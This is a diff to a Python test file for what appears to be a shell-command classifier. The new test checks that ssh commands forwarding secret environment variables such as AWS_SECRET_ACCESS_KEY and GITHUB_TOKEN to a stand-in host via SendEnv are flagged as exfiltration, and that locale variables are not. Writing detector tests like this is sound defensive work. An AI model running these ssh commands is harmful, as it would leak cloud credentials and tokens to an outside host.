@@ -542,3 +542,13 @@ def test_example_files_of_every_environment_are_not_secrets(layer: Any) -> None:
     for command in ("cat .env.local.example", "diff .env.example .env.production.sample",
                     "gpg --verify release.sig", "kubectl get pods", "gh auth status"):
         assert "secret-read" not in primitives(layer, command), command
+
+
+def test_ssh_sending_secret_variables_of_its_environment(layer: Any,
+                                                         monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "not-a-real-key")
+    for command in ("ssh -o SendEnv=AWS_SECRET_ACCESS_KEY collect.example true",
+                    "ssh -o 'SendEnv AWS_*' collect.example", "ssh -oSendEnv=GITHUB_TOKEN h"):
+        assert "exfiltration" in primitives(layer, command), command
+    for command in ("ssh -o SendEnv=LANG build.example make", "ssh -o 'SendEnv LC_*' h"):
+        assert "exfiltration" not in primitives(layer, command), command
